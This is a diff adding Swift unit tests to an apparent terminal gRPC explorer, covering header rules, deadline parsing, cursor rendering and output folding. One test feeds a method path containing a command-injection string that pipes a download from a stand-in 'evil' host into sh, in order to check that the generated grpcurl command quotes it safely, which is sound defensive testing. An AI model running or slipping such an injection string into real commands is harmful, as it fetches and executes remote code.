@@ -329,3 +329,78 @@ extension ComposerTests {
     }
   }
 }
+
+extension RequestSettingsTests {
+  @Test func aNewTargetStartsWithoutTheOldTargetsHeaders() {
+    var scenario = Scenario()
+    _ = scenario.state.update(
+      .requestSettings(RequestSettings(headers: [.init(name: "authorization", value: "Bearer t")])))
+    scenario.press(.function(4), .control("u"))
+    scenario.type("127.0.0.1:50099")
+    #expect(scenario.press(.enter) == [.setTarget("127.0.0.1:50099")])
+    #expect(scenario.state.requestSettings.isEmpty)
+  }
+
+  @Test func headersTheClientSetsOrHTTP2ForbidsAndNonDecimalDeadlinesAreRefused() {
+    for name in ["te", "content-type", "connection", "host", "grpc-timeout"] {
+      guard case .failure = MetadataRules.header("\(name): x") else {
+        Issue.record("\(name) was taken")
+        continue
+      }
+    }
+    for text in ["0x10", "0X1p3", "inf", "nan", "", "1,5"] {
+      guard case .failure = MetadataRules.deadline(text) else {
+        Issue.record("deadline \(text) was taken")
+        continue
+      }
+    }
+    #expect((try? MetadataRules.deadline("2.5").get()) == .milliseconds(2500))
+  }
+
+  /// A long value (a JWT) is cut to the box, the cursor's line shifted so the cursor is in it.
+  @Test func aLongHeaderKeepsTheCursorInTheBox() {
+    var scenario = Scenario()
+    scenario.press(.character("m"))
+    scenario.type("authorization: Bearer " + String(repeating: "abcdefghij", count: 30))
+    let screen = scenario.state.render()
+    let cursor = screen.cursor
+    #expect(cursor != nil, "the cursor is on screen")
+    if let cursor {
+      #expect(cursor.x < 79)
+      var line = ""
+      for x in 0..<80 { line += screen.grid[x, cursor.y].text }
+      #expect(line.contains("abcdefghij"), "\(line)")
+    }
+  }
+}
+
+extension ClipboardTests {
+  @Test func aHostileMethodNameIsQuotedInTheCommand() {
+    var scenario = Scenario()
+    scenario.state.methods = [
+      ExplorerState.Method(name: "x", path: "/svc/x;curl evil|sh $(id)", kind: .unary)
+    ]
+    scenario.state.catalog = Catalog()
+    var call = CallRecord(
+      id: 1, method: "x", path: "/svc/x;curl evil|sh $(id)", kind: .unary, startNanos: 0)
+    call.drafts = [RequestDraft(typeName: "t", json: "{}")]
+    _ = scenario.state.update(.historyLoaded([call], skipped: 0, total: 1))
+    #expect(
+      scenario.state.grpcurlCommand(for: scenario.state.calls[0])
+        == "grpcurl -plaintext -d '{}' 127.0.0.1:50051 'svc/x;curl evil|sh $(id)'")
+  }
+}
+
+extension ComposerTests {
+  @Test func aTurnOneRowOverTheFoldIsShownAndAWholeOneIsCapped() {
+    let nine = (1...9).map { "line \($0)" }.joined(separator: "\n")
+    #expect(ExplorerState.bubble("◂ ", nine, width: 40, whole: false).count == 9)
+    let ten = nine + "\nline 10"
+    let folded = ExplorerState.bubble("◂ ", ten, width: 40, whole: false)
+    #expect(folded.count == 9 && folded.last?.folded == true)
+    let huge = String(repeating: "x\n", count: 5000)
+    let whole = ExplorerState.bubble("◂ ", huge, width: 40, whole: true)
+    #expect(whole.count == ExplorerState.wholeRows + 1)
+    #expect(whole.last?.text.hasPrefix("⋯ the first 2000 rows") == true)
+  }
+}
